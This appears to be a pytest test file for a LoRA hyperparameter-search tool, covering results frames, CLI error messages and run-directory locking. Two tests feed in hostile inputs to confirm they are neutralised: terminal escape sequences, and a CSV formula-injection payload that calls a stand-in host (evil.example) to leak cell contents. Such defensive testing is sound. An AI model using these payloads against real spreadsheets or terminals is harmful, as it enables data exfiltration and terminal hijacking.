"""Results as frames: of runs of ours, running or broken off, of somebody else's, and of published experiments."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import subprocess
import sys
import threading
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from conftest import shared

from lora_search import open_run, open_runs
from lora_search.cli import main
from lora_search.errors import InputError, SweepError
from lora_search.results import COLUMNS
from lora_search.spec.schema import SPACE_KEYS

START = {"event": "start", "time": 1000.5}
PARAMETERS = {"rank": 8, "alpha": 16.0, "dropout": 0, "target_modules": "attention", "learning_rate": 0.001}


def report(trial: int, step: int, loss: float | None, **more: Any) -> dict[str, Any]:
    figures = {"eval_loss": loss, "train_loss": 2.0, "tokens": 100 * step, "host": "host-0", "steps_total": 20}
    return {"event": "report", "trial": trial, "time": 1000.5 + step, "step": step, **figures, **more}


EVENTS = [
    START | {"trial": 0, "parameters": PARAMETERS},
    START | {"trial": 1, "parameters": PARAMETERS | {"rank": 64, "target_modules": ["q", "v"]}},
    START | {"trial": 2, "parameters": PARAMETERS},
    START | {"trial": 3, "parameters": PARAMETERS},
    report(1, 10, 1.5),
    report(0, 10, 1.25),
    {"event": "checkpoint", "trial": 0, "time": 1010.5, "step": 10, "path": "tune/trial-0000/checkpoint_000010"},
    {"event": "end", "trial": 1, "time": 1011.0, "state": "stopped", "reason": None},
    {"event": "end", "trial": 2, "time": 1012.0, "state": "failed", "reason": "loss is not a number"},
    report(0, 20, 1.0, history=[{"step": 11, "loss": 2.0}]),
    {"event": "end", "trial": 0, "time": 1021.0, "state": "completed", "reason": None},
]


def write_run(folder: Path, events: list[dict[str, Any]] = EVENTS, sweep: str = "name: written\n") -> Path:
    folder.mkdir(parents=True)
    (folder / "sweep.yaml").write_text(sweep)
    (folder / "trials.jsonl").write_text("".join(json.dumps(event) + "\n" for event in events))
    return folder


def test_every_parameter_of_a_sweep_has_a_documented_column() -> None:
    assert set(SPACE_KEYS) - {"steps"} <= COLUMNS.keys()  # `steps` itself is what a trial has done


def test_trials_have_a_row_each_with_documented_dtypes(tmp_path: Path) -> None:
    trials = open_run(write_run(tmp_path / "run")).trials
    assert list(trials["trial"]) == [0, 1, 2, 3]
    assert list(trials["state"]) == ["completed", "stopped", "failed", "running"]
    assert list(trials["steps"]) == [20, 10, 0, 0]
    assert list(trials["rank"]) == [8, 64, 8, 8]
    assert trials["target_modules"][1] == "q, v"
    assert trials["reason"][2] == "loss is not a number"
    assert trials["ended"][0] == pd.Timestamp(1021.0, unit="s", tz="UTC")
    assert pd.isna(trials["ended"][3])
    assert {name: str(dtype) for name, dtype in trials.dtypes.items()} == {
        name: COLUMNS[str(name)].dtype for name in trials
    }


def test_searched_steps_stand_beside_those_done(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from lora_search.cli import main

    events = [
        START | {"trial": trial, "parameters": PARAMETERS | {"steps": steps}} for trial, steps in enumerate((30, 60))
    ]
    run = write_run(
        tmp_path / "run",
        [*events, report(1, 10, 1.5, steps_total=60)],
        "search: {space: {steps: {choice: [30, 60]}}}\n",
    )
    trials = open_run(run).trials
    assert list(trials["steps"]) == [0, 10]
    assert list(trials["steps_total"]) == [30, 60]  # known from the start
    assert main(["results", str(run)]) == 0
    table = capsys.readouterr().out
    assert "steps_total" in table
    assert table.count(" 60 ") == 1


@pytest.mark.parametrize(
    ("arguments", "status", "said"),
    [
        *((["results", "{run}", "--format", form, "--out", "{file}/x"], 2, "x") for form in ("csv", "json", "table")),
        *((["results", "{run}", "--format", form, "--out", "{no}/x"], 2, "be written") for form in ("csv", "parquet")),
        (["merge", "{run}", "--out", "{file}/a/b"], 2, "cannot be made: Not a directory"),
        (["merge", "{run}", "--out", "n" * 300], 2, "cannot be made: File name too long"),
        (["export", "{run}", "--to", "yaml", "--out", "n" * 300], 2, "cannot be read: File name too long"),
        (["status", "~nosuchuser/run"], 2, "neither a run directory"),
        (["status", "n" * 300], 2, "cannot be read: File name too long"),
        (["results", "{folder}"], 1, "trials.jsonl: cannot be read: Is a directory"),
        (["results", "{late}"], 1, "trials.jsonl:1: time: found 1e+300"),
        (["report", "{deep}"], 1, "provenance.json: "),
        (["report", "{deeper}"], 1, "provenance.json: not JSON"),
    ],
)
def test_plain_mistake_is_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], arguments: list[str], status: int, said: str
) -> None:
    from lora_search.cli import main

    places = {name: tmp_path / name for name in ("run", "file", "no", "folder", "late", "deep", "deeper")}
    places["file"].write_text("")
    for name in ("run", "folder", "late", "deep", "deeper"):
        events = [EVENTS[0] | {"time": 1e300}] if name == "late" else EVENTS
        write_run(places[name], events, "search: {space: {rank: {choice: [8, 64]}}}\n")
    (places["folder"] / "trials.jsonl").unlink()
    (places["folder"] / "trials.jsonl").mkdir()
    for name, depth in (("deep", 600), ("deeper", 200_000)):
        (places[name] / "provenance.json").write_text('{"a":' * depth + "1" + "}" * depth)
    assert main([argument.format(**places) for argument in arguments]) == status
    told = capsys.readouterr().err.splitlines()
    assert said in told[-1]
    assert len([line for line in told if not line.startswith("lora-search: merging")]) == 1


def test_number_without_end_in_a_conclusion_is_passed_over(tmp_path: Path) -> None:
    from lora_search.cli import main

    run = write_run(tmp_path / "run")
    conclusion = {"trial": 0, "test_loss": 10**400, "validation_loss": 1.0}
    (run / "provenance.json").write_text(json.dumps({"conclusion": conclusion}))
    assert main(["report", str(run)]) == 0


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize("form", ["csv", "json", "table"])
def test_control_sequences_do_not_reach_a_terminal(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], form: str
) -> None:
    from lora_search.cli import main

    hostile = "\x1b]0;owned\x07\x9b31mx"
    events = [START | {"trial": 0, "parameters": PARAMETERS | {"target_modules": hostile}}]
    run = write_run(tmp_path / "run", events)
    assert main(["results", str(run), "--format", form]) == 0
    piped = capsys.readouterr().out
    assert (hostile in piped) == (form == "csv")
    with monkeypatch.context() as patch:
        patch.setattr(sys, "stdout", shown := Terminal())
        assert main(["results", str(run), "--format", form]) == 0
    assert "owned" in shown.getvalue()
    assert not set("\x07\x9b") & set(shown.getvalue())
    assert "\x1b]" not in shown.getvalue()
    if form == "json":
        assert json.loads(shown.getvalue())[0]["target_modules"] == hostile


def test_text_of_a_run_is_no_formula_in_csv(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    formula = '=HYPERLINK("http://evil.example?"&A1)'
    more = {"layers": "+1", "tag": ["@SUM(1)", "v"], "note": "\t=1", formula: "-1", "shift": -0.5, "mixed": -2}
    events = [
        START | {"trial": 0, "parameters": PARAMETERS | {"target_modules": formula} | more},
        report(0, 10, -1.25, host="-host"),
        {"event": "end", "trial": 0, "time": 1011.0, "state": "failed", "reason": "\r=1\r=2"},
        START | {"trial": 1, "parameters": PARAMETERS | {"mixed": "a=b"}},
    ]
    run = write_run(tmp_path / "run", events)
    assert main(["results", str(run), "--format", "csv", "--out", str(tmp_path / "out.csv")]) == 0
    with (tmp_path / "out.csv").open(newline="") as file:
        first, second = csv.DictReader(file)
    assert first["target_modules"] == f"'{formula}"
    assert first[f"'{formula}"] == "'-1"
    assert (first["layers"], first["tag"], first["note"]) == ("'+1", "'@SUM(1), v", "'\t=1")
    assert (first["host"], first["reason"]) == ("'-host", "'\r=1\r=2")
    assert (first["eval_loss"], first["shift"], first["mixed"]) == ("-1.25", "-0.5", "-2")
    assert (second["mixed"], second["target_modules"], second["host"]) == ("a=b", "attention", "")
    assert main(["results", str(run), "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out)[0]["target_modules"] == formula


def test_table_of_a_metric_to_be_maximal_ends_with_what_has_none(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from lora_search.cli import main

    starts = [START | {"trial": trial, "parameters": PARAMETERS} for trial in range(5)]
    told = {0: 0.5, 2: 0.75, 3: 0.5}
    reports = [report(trial, 10, 1.0, token_accuracy=share) for trial, share in told.items()]
    sweep = "search: {metric: token_accuracy}\n"
    assert main(["results", str(write_run(tmp_path / "run", [*starts, *reports], sweep))]) == 0
    rows = [line.split()[1] for line in capsys.readouterr().out.splitlines() if "running" in line]
    assert rows == ["2", "0", "3", "1", "4"]


def test_who_looks_at_the_lock_is_not_seen_by_others(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import fcntl

    from lora_search.rundir import RunDirectory, is_locked, locked

    monkeypatch.setattr("lora_search.rundir.PATIENCE_S", 30.0)
    run = RunDirectory(write_run(tmp_path / "run"))
    assert not is_locked(run)
    with locked(run):
        assert is_locked(run)
    with run.lock.open() as looking:
        fcntl.flock(looking, fcntl.LOCK_SH)
        assert not is_locked(run)
        threading.Timer(0.1, fcntl.flock, (looking, fcntl.LOCK_UN)).start()
        with locked(run):
            assert is_locked(run)


@pytest.mark.parametrize("number", [errno.ENOSYS, errno.ENOLCK, errno.EOPNOTSUPP])
def test_run_directory_is_one_processs_own_on_a_file_system_without_locks(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, number: int
) -> None:
    """As Lustre without `-o flock`."""
    from lora_search.rundir import RunDirectory, is_locked, locked

    def no_locks(file: int, operation: int) -> None:
        raise OSError(number, os.strerror(number))

    monkeypatch.setattr("fcntl.flock", no_locks)
    monkeypatch.setattr("lora_search.lease.REFRESH_S", 0.1)
    run = RunDirectory(write_run(tmp_path / "run"))
    assert not is_locked(run)
    with locked(run) as held:
        assert held()
        assert is_locked(run)
        with pytest.raises(InputError, match="another lora-search run is writing to it"), locked(run):
            pass
        assert held()
    assert not is_locked(run)


@pytest.mark.parametrize(
    ("options", "leases"),
    [
        ("nfs 10.0.0.1:/home rw,vers=3,hard,nolock,local_lock=all", True),
        ("nfs 10.0.0.1:/home rw,vers=3,hard,local_lock=flock", True),
        ("lustre 10.0.0.1@tcp:/fs rw,checksum,localflock", True),
        ("nfs4 10.0.0.1:/home rw,vers=4.2,hard,local_lock=none", False),
        ("nfs 10.0.0.1:/home rw,vers=3,hard,local_lock=posix", False),
        ("lustre 10.0.0.1@tcp:/fs rw,checksum,flock", False),
    ],
)
def test_locks_that_keep_out_no_other_machine_are_none(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, options: str, leases: bool
) -> None:
    from lora_search.lease import LEASE
    from lora_search.rundir import RunDirectory, is_locked, locked

    run = RunDirectory(write_run(tmp_path / "run"))
    device = run.path.stat().st_dev
    other = "24 22 0:999 / /some\\040where rw,relatime - nfs 10.0.0.2:/a rw,nolock,local_lock=all\n"
    mounted = f"36 35 {os.major(device)}:{os.minor(device)} / /mnt rw,noatime master:1 shared:2 - {options}\n"
    (tmp_path / "mounts").write_text(f"{other}{mounted}")
    monkeypatch.setattr("lora_search.rundir.MOUNTS", tmp_path / "mounts")
    monkeypatch.setattr("lora_search.lease.REFRESH_S", 0.1)
    with locked(run):
        assert (run.path / LEASE).exists() == leases
        assert is_locked(run)
    assert not is_locked(run)


def test_reports_have_a_row_each_in_their_order(tmp_path: Path) -> None:
    reports = open_run(write_run(tmp_path / "run")).reports
    assert list(reports["trial"]) == [1, 0, 0]
    assert list(reports["eval_loss"]) == [1.5, 1.25, 1.0]
    assert list(reports["tokens"]) == [1000, 1000, 2000]
    assert {name: str(dtype) for name, dtype in reports.dtypes.items()} == {
        name: COLUMNS[str(name)].dtype for name in reports
    }


def test_best_is_the_best_trial_that_has_ended(tmp_path: Path) -> None:
    best = open_run(write_run(tmp_path / "run")).best
    assert best is not None
    assert (best["trial"], best["eval_loss"]) == (0, 1.0)


@pytest.mark.parametrize("events", [[], EVENTS[:4]], ids=["no trial yet", "no report yet"])
def test_run_that_has_just_begun_has_frames_and_no_best(tmp_path: Path, events: list[dict[str, Any]]) -> None:
    run = open_run(write_run(tmp_path / "run", events))
    assert len(run.trials) == len(events)
    assert len(run.reports) == 0
    assert str(run.reports["eval_loss"].dtype) == "float64"
    assert run.best is None


def test_run_that_is_being_written_is_read_without_its_last_torn_line(tmp_path: Path) -> None:
    folder = write_run(tmp_path / "run")
    whole = (folder / "trials.jsonl").read_bytes()
    for cut in range(1, 60):
        (folder / "trials.jsonl").write_bytes(
            whole[:-1] + b"\n" + b'{"event": "end", "trial": 3, "reason": "\xc3\xa9'[:cut]
        )
        assert len(open_run(folder).trials) == 4


def test_lines_written_by_others_are_read_as_ours(tmp_path: Path) -> None:
    folder = write_run(tmp_path / "run")
    ours = open_run(folder)
    lines = [json.dumps(dict(reversed(event.items())), separators=(",", ":")) for event in EVENTS]
    lines.append('{"event":"report","trial":3,"time":1020.0,"step":10,"eval_loss":NaN,"host":null}')
    (folder / "trials.jsonl").write_text("\n".join(lines))
    theirs = open_run(folder)
    pd.testing.assert_frame_equal(theirs.trials.iloc[:3], ours.trials.iloc[:3])
    assert pd.isna(theirs.reports["eval_loss"].iloc[-1])


@pytest.mark.parametrize(
    "more",
    [
        {"history": [{"step": 11, "loss": 2.0}], "host": "host-7"},
        {"history": [[1]], "host": "host-7"},
        {"other": {"history": [1]}},
        {"host": ', "history": [1]}'},
        {"history": []},
    ],
)
def test_steps_between_reports_are_passed_over_and_nothing_else(tmp_path: Path, more: dict[str, Any]) -> None:
    line = report(0, 10, 1.25) | {"host": "host-0"} | more
    reports = open_run(write_run(tmp_path / "run", [EVENTS[0], line])).reports
    assert (list(reports["eval_loss"]), list(reports["host"])) == ([1.25], [line["host"]])


def test_values_of_another_type_than_documented_are_kept_as_text(tmp_path: Path) -> None:
    events = [START | {"trial": 0, "parameters": PARAMETERS | {"rank": "sixteen", "mine": [["a"]][0], "other": 7}}]
    trials = open_run(write_run(tmp_path / "run", events)).trials
    assert (trials["rank"][0], trials["mine"][0], trials["other"][0]) == ("sixteen", "a", 7)


def test_study_is_read_and_never_made(tmp_path: Path) -> None:
    run = open_run(write_run(tmp_path / "run"))
    with pytest.raises(SweepError, match=r"study\.journal: there is no study"):
        _ = run.study
    assert not (tmp_path / "run" / "study.journal").exists()


@pytest.mark.parametrize(("text", "message"), [("{", "not JSON"), ("[1]", r"found \[1\]")])
def test_provenance_that_is_none_is_said(tmp_path: Path, text: str, message: str) -> None:
    folder = write_run(tmp_path / "run")
    (folder / "provenance.json").write_text(text)
    with pytest.raises(SweepError, match=message):
        _ = open_run(folder).provenance


def test_runs_stand_together_and_are_told_apart(tmp_path: Path) -> None:
    max_sweep = "name: other\nsearch: {metric: token_accuracy, mode: max}\n"
    accurate = [event | ({"token_accuracy": 0.5} if event["event"] == "report" else {}) for event in EVENTS]
    write_run(tmp_path / "a" / "run")
    write_run(tmp_path / "b" / "run", accurate, max_sweep)
    runs = open_runs(tmp_path / "a" / "run", tmp_path / "b" / "run")
    assert runs.names == ["run", "run (2)"]
    assert list(runs.trials["run"]) == ["run"] * 4 + ["run (2)"] * 4
    assert list(runs.reports["run"]) == ["run"] * 3 + ["run (2)"] * 3
    assert list(runs.best["metric"]) == ["eval_loss", "token_accuracy"]
    assert list(runs.best["value"]) == [1.0, 0.5]
    assert open_runs(tmp_path / "a").names == ["run"]  # a folder of run directories


def test_runs_need_not_have_begun(tmp_path: Path) -> None:
    runs = open_runs(write_run(tmp_path / "run", []))
    assert (len(runs.trials), len(runs.reports), len(runs.best)) == (0, 0, 0)


def test_place_that_holds_no_results_is_one_message(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    for place in (tmp_path / "empty", tmp_path / "nowhere"):
        with pytest.raises(InputError, match="RUN: found"):
            open_runs(place)


def test_published_experiments_are_the_trials_of_one_run() -> None:
    runs = open_runs(shared("peft-method-comparison"))
    trials = runs.trials.set_index("experiment")
    assert len(trials) == 4
    rank32 = trials.loc["lora/llama-3.2-3B-rank32"]
    assert (rank32["rank"], rank32["alpha"], rank32["target_modules"]) == (32, 64.0, "v_proj, q_proj")
    assert rank32["trainable_parameters"] == 9_175_040  # ORIGINS.md
    assert rank32["peak_memory_bytes"] == 22_292_725_760
    assert (rank32["state"], rank32["steps"], rank32["host"]) == ("completed", 5000, "NVIDIA L40S")
    assert 0.2 < rank32["accuracy"] < rank32["accuracy"] + rank32["test_accuracy"] < 1.2
    assert runs.reports.groupby("trial")["step"].agg(["min", "max"]).values.tolist() == [[250, 5000]] * 4
    assert runs.best["metric"].tolist() == ["accuracy"]


@pytest.mark.parametrize(
    ("content", "message"),
    [("{", "Invalid JSON"), ("{}", "run_info: Field required"), ('{"run_info": {"experiment_name": 1}}', "run_info")],
)
def test_file_that_is_no_published_experiment_is_said(tmp_path: Path, content: str, message: str) -> None:
    (tmp_path / "x.json").write_text(content)
    with pytest.raises(SweepError, match=rf"x\.json: {message}"):
        open_runs(tmp_path / "x.json")


ELSEWHERE = """\
name: written
base: {model: /elsewhere/base}
data: {path: /elsewhere/rows.jsonl}
search: {space: {rank: 8}}
"""


def test_run_whose_base_and_data_are_elsewhere_is_read_and_what_needs_them_says_so(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    write_run(Path("run"), sweep=ELSEWHERE)
    assert open_run("run").spec.base.model == "/elsewhere/base"
    for command in (["status"], ["results"], ["report"], ["export", "--to", "yaml", "--out", "yaml"]):
        assert main([command[0], "run", *command[1:]]) == 0, capsys.readouterr().err
    for command in (["merge", "--out", "merged"], ["serve"], ["export", "--to", "trl", "--out", "trl"]):
        capsys.readouterr()
        assert main([command[0], "run", *command[1:]]) == 2
        said = capsys.readouterr().err
        assert said.count("\n") == 1
        assert "/elsewhere/base" in said


def test_results_that_cannot_be_written_are_one_message(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    run = write_run(tmp_path / "run")
    for form in ("table", "csv", "parquet"):
        assert main(["results", str(run), "--format", form, "--out", str(tmp_path / "none" / "file")]) == 2
        assert "cannot be written" in capsys.readouterr().err


def test_results_need_neither_ray_nor_torch(tmp_path: Path) -> None:
    folder = write_run(tmp_path / "run")
    script = (
        "import sys, lora_search; assert 'pandas' not in sys.modules; run = lora_search.open_run(sys.argv[1]);"
        "run.trials, run.reports, run.best, lora_search.open_runs(sys.argv[1]);"
        "print([name for name in ('ray', 'torch', 'transformers', 'wandb') if name in sys.modules])"
    )
    said = subprocess.run([sys.executable, "-c", script, folder], capture_output=True, text=True, check=True)
    assert said.stdout.strip() == "[]"
